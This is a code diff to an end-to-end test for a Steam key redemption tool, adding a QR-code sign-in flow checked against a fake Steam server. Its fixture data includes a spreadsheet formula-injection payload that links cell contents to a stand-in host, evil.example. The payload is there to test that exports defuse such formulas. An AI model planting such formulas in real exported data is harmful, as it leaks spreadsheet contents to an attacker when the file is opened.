@@ -2,7 +2,8 @@
  * The whole product, end to end: Chromium on the page of the built binary
  * (`node dist/bin/steam-key.js serve`, as a user runs it), whose steam-user
  * signs in to the fake Steam (test/fake-steam) with an e-mail Steam Guard
- * code and redeems keys there. The server process trusts the fake's test CA
+ * code and redeems keys there — then again with a QR code, through the real
+ * steam-session, which the fake's Steam app scans and approves. The server process trusts the fake's test CA
  * through NODE_EXTRA_CA_CERTS.
  */
 import { spawn } from 'node:child_process';
@@ -10,18 +11,23 @@ import { once } from 'node:events';
 import { fileURLToPath } from 'node:url';
 import t from 'tap';
 import { startFakeSteam } from '../fake-steam/fake-steam.js';
-import { allDone, downloads, openPage, tableRows, textOf, until, withBrowser } from '../helpers/browser.js';
+import { allDone, downloads, openPage, readQr, tableRows, textOf, until, withBrowser } from '../helpers/browser.js';
 
 const BINARY = fileURLToPath(new URL('../../dist/bin/steam-key.js', import.meta.url));
 const PASSWORD = 'correct horse battery staple';
 
 const steam = await startFakeSteam({
-  accounts: [{ accountName: 'alice', password: PASSWORD, country: 'DE', guard: { type: 'email', domain: 'example.org', codes: ['GOOD1'] } }],
+  accounts: [
+    { accountName: 'alice', password: PASSWORD, country: 'DE', guard: { type: 'email', domain: 'example.org', codes: ['GOOD1'] } },
+    // A QR code is for accounts with the Steam app (Steam's rule): bob has it.
+    { accountName: 'bob', password: 'not used', country: 'FR', guard: { type: 'authenticator', codes: ['B0B42'], approvable: true } },
+  ],
   keys: {
     'AAAAA-BBBBB-CCCCC': { packages: [{ id: 31337, name: 'Fake Game' }] },
     'DDDDD-EEEEE-FFFFF': { detail: 9, packages: [{ id: 4242, name: 'Owned Game' }] },
     // Package names are the publisher's: these would be formulas in a spreadsheet.
     'GGGGG-HHHHH-IIIII': { packages: [{ id: 666, name: '=HYPERLINK("https://evil.example/?"&A1,"Bonus")' }, { id: 667, name: '@SUM(1+1)' }] },
+    'JJJJJ-KKKKK-LLLLL': { packages: [{ id: 4343, name: 'QR Game' }] },
   },
 });
 t.teardown(() => steam.close());
@@ -114,4 +120,25 @@ await withBrowser(t, 'the page of the built binary, against the fake Steam', asy
   t.ok(await page.isVisible('#sign-in'), 'signed out: the sign-in form again');
   t.notMatch(output, PASSWORD, 'the server never printed the password');
   t.notMatch(output, /GOOD1|WRONG/, 'nor a guard code');
+
+  // Without the password: the page draws Steam's own challenge, follows it when it changes, and the app approves.
+  await page.click('#qr-start');
+  const first = await steam.app.nextChallenge();
+  t.equal(await textOf(page, '#qr-link', /./), first, "the page offers Steam's challenge URL");
+  t.equal(await readQr(browser, page, '#qr-picture'), first, 'and its QR code reads as that URL');
+  const second = steam.app.newChallenge(first)!;
+  await until(page, `document.querySelector('#qr-link').href === ${JSON.stringify(second)}`, 'the new challenge');
+  t.pass('steam-session polled the new challenge: the page shows it');
+  t.equal(await readQr(browser, page, '#qr-picture'), second, 'the code drawn is the new one');
+  t.ok(steam.app.scan(second, 'bob'), "bob's Steam app scans it");
+  t.equal(await textOf(page, '#qr-message', /Scanned/), 'Scanned — now approve the sign-in in the Steam app.');
+  t.ok(steam.app.approve(second), 'and approves');
+  t.equal(await textOf(page, '#account', /bob/), 'Signed in as bob', 'signed in, no password typed');
+  await page.fill('#keys-text', 'JJJJJ-KKKKK-LLLLL');
+  await page.click('#redeem');
+  await until(page, `document.querySelector('tr[data-key="JJJJJ-KKKKK-LLLLL"]')?.dataset.status === 'activated'`, "bob's key activated");
+  t.same(steam.keysReceived.slice(-1), ['JJJJJ-KKKKK-LLLLL'], "the key went to Steam on bob's sign-in");
+  await page.click('#sign-out');
+  await until(page, `!document.querySelector('#sign-in').hidden`, 'the sign-in form');
+  t.ok(steam.log.filter((e) => e.type === 'logoff').length >= 2, 'signed out of Steam again');
 });
